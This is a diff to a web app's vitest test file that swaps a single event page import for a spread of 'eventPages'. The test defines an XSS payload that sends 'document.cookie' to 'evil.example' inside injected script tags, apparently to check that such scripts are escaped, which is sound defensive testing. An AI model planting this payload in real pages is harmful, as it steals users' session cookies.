@@ -6,11 +6,10 @@ import { afterAll, beforeAll, describe, expect, test } from 'vitest'
 import { getEvent } from '#features/events/contract/event.ts'
 import { buildTestApp, type TestApp } from '#testing/app.ts'
 import { makeEvent } from '#testing/factories.ts'
-import * as event from '#web/pages/events/event.tsx'
 import * as events from '#web/pages/events/events.tsx'
 import * as root from '#web/root.tsx'
 import { callContext } from '#web/server-context.ts'
-import { loadPages } from '../testing/real-pages.ts'
+import { eventPages, loadPages } from '../testing/real-pages.ts'
 
 const STEAL = 'fetch("https://evil.example/" + document.cookie)'
 const INJECTED = `<script>${STEAL}</script><script type="module" async="">${STEAL};</script>
@@ -34,7 +33,7 @@ beforeAll(async () => {
     root,
     'careless/:urlName': careless,
     events,
-    'event/:eventUrlName': event,
+    ...eventPages,
   })
   app = await buildTestApp({ now: new Date('2027-05-06T18:00:00Z'), parts: { loadBuild } })
   const { db } = app.services
